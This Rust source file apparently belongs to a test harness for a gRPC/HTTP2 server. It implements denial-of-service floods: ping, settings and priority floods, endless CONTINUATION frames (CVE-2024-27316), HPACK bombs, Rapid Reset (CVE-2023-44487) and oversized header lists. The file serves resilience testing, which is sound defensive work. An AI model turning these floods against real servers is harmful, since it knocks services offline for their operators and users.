//! Floods of frames that no call needs, and header blocks that expand.

use futures_util::FutureExt as _;
use futures_util::future::BoxFuture;

use crate::support::http2::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, INDEXED, PATH, PING, PRIORITY, SETTINGS,
    WINDOW_UPDATE, fields, frame, headers, indexing, move_frames, opened, opened_and_reset, string,
};

use super::client::{connect, flood, run_clients};
use super::harness::Target;

/// Number of connections of a flood.
const CLIENTS: usize = 8;
/// Number of frames per write.
const FRAMES: usize = 500;
/// Number of calls per write.
const CALLS: u32 = 20;
/// Number of connections of a flood of resets, one for each worker, and of resets per write: as
/// time forgives resets, each connection has to send very many.
const RESETTING: usize = 2;
const RESETS: u32 = 1_000;

/// Returns a flood of one frame.
fn flood_of(target: Target, opening: Vec<u8>, one: Vec<u8>) -> BoxFuture<'static, ()> {
    let some = one.repeat(FRAMES);
    let attack = move || {
        let opening = opening.clone();
        let some = some.clone();
        async move { flood(connect(target.grpc).await?, &opening, || some.clone()).await }
    };
    async move { run_clients(CLIENTS, attack).await }.boxed()
}

pub(super) fn pings(target: Target) -> BoxFuture<'static, ()> {
    flood_of(target, vec![], frame(PING, 0, 0, b"8 octets"))
}

pub(super) fn settings(target: Target) -> BoxFuture<'static, ()> {
    flood_of(target, opened(&[1]), frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]))
}

pub(super) fn priorities(target: Target) -> BoxFuture<'static, ()> {
    flood_of(target, vec![], frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]))
}

pub(super) fn window_updates(target: Target) -> BoxFuture<'static, ()> {
    flood_of(target, opened(&[1]), frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]))
}

pub(super) fn unknown_frames(target: Target) -> BoxFuture<'static, ()> {
    flood_of(target, vec![], frame(0x77, 0, 0, b"of no known type"))
}

pub(super) fn empty_data(target: Target) -> BoxFuture<'static, ()> {
    flood_of(target, opened(&[1]), frame(DATA, 0, 1, &[]))
}

pub(super) fn empty_continuations(target: Target) -> BoxFuture<'static, ()> {
    flood_of(target, frame(HEADERS, 0, 1, &headers(PATH)), frame(CONTINUATION, 0, 1, &[]))
}

/// Sends endless CONTINUATION frames (CVE-2024-27316).
pub(super) fn continuations(target: Target) -> BoxFuture<'static, ()> {
    let field = [&[0][..], &string(b"x"), &string(&[b'v'; 100])].concat();
    flood_of(
        target,
        frame(HEADERS, 0, 1, &headers(PATH)),
        frame(CONTINUATION, 0, 1, &field.repeat(100)),
    )
}

/// Sends a field of 4 KB for the dynamic table, and 12,000 references of one byte to it.
pub(super) fn hpack_bombs(target: Target) -> BoxFuture<'static, ()> {
    const LATEST: u8 = 0x80 | 62;
    let insert = [&[0x40][..], &string(b"x"), &string(&[b'v'; 4_000])].concat();
    let block = [headers(PATH), insert, vec![LATEST; 12_000]].concat();
    calls_of(target, move |stream| frame(HEADERS, END_HEADERS, stream, &block))
}

/// Resets calls at once (CVE-2023-44487).
pub(super) fn rapid_resets(target: Target) -> BoxFuture<'static, ()> {
    resets_of(target, PATH)
}

pub(super) fn resets_of_watches(target: Target) -> BoxFuture<'static, ()> {
    resets_of(target, "/grpc.health.v1.Health/Watch")
}

pub(super) fn resets_of_unknown_methods(target: Target) -> BoxFuture<'static, ()> {
    resets_of(target, "/no.such.Service/Method")
}

fn resets_of(target: Target, path: &'static str) -> BoxFuture<'static, ()> {
    let some = opened_and_reset(0, &INDEXED).repeat(RESETS as usize);
    let attack = move || {
        let mut some = some.clone();
        let mut stream = 3;
        let next = move || {
            move_frames(&mut some, |number| stream + number / 2 * 2);
            stream += 2 * RESETS;
            some.clone()
        };
        let opening = opened_and_reset(1, &indexing(path));
        async move { flood(connect(target.grpc).await?, &opening, next).await }
    };
    async move { run_clients(RESETTING, attack).await }.boxed()
}

/// Sends header lists of 15 KB, in calls that do not end.
pub(super) fn long_headers(target: Target) -> BoxFuture<'static, ()> {
    let usual: [(&str, &[u8]); 3] =
        [(":method", b"POST"), (":scheme", b"http"), (":path", PATH.as_bytes())];
    let block = fields(&[&usual[..], &[("x", &[b'v'; 15 << 10])]].concat());
    calls_of(target, move |stream| frame(HEADERS, END_HEADERS, stream, &block))
}

/// Sends header lists of 400 fields.
pub(super) fn many_headers(target: Target) -> BoxFuture<'static, ()> {
    let names: Vec<String> = (0..400).map(|number| format!("x{number}")).collect();
    let usual: [(&str, &[u8]); 3] =
        [(":method", b"POST"), (":scheme", b"http"), (":path", PATH.as_bytes())];
    let more: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"v"[..])).collect();
    let block = fields(&[&usual[..], &more].concat());
    calls_of(target, move |stream| frame(HEADERS, END_HEADERS, stream, &block))
}

/// Returns a flood of calls, each on a stream of its own.
fn calls_of(
    target: Target,
    call: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
) -> BoxFuture<'static, ()> {
    let attack = move || {
        let call = call.clone();
        let mut stream = 1;
        let next = move || {
            let frames = (0..CALLS).flat_map(|number| call(stream + 2 * number)).collect();
            stream += 2 * CALLS;
            frames
        };
        async move { flood(connect(target.grpc).await?, &[], next).await }
    };
    async move { run_clients(CLIENTS, attack).await }.boxed()
}
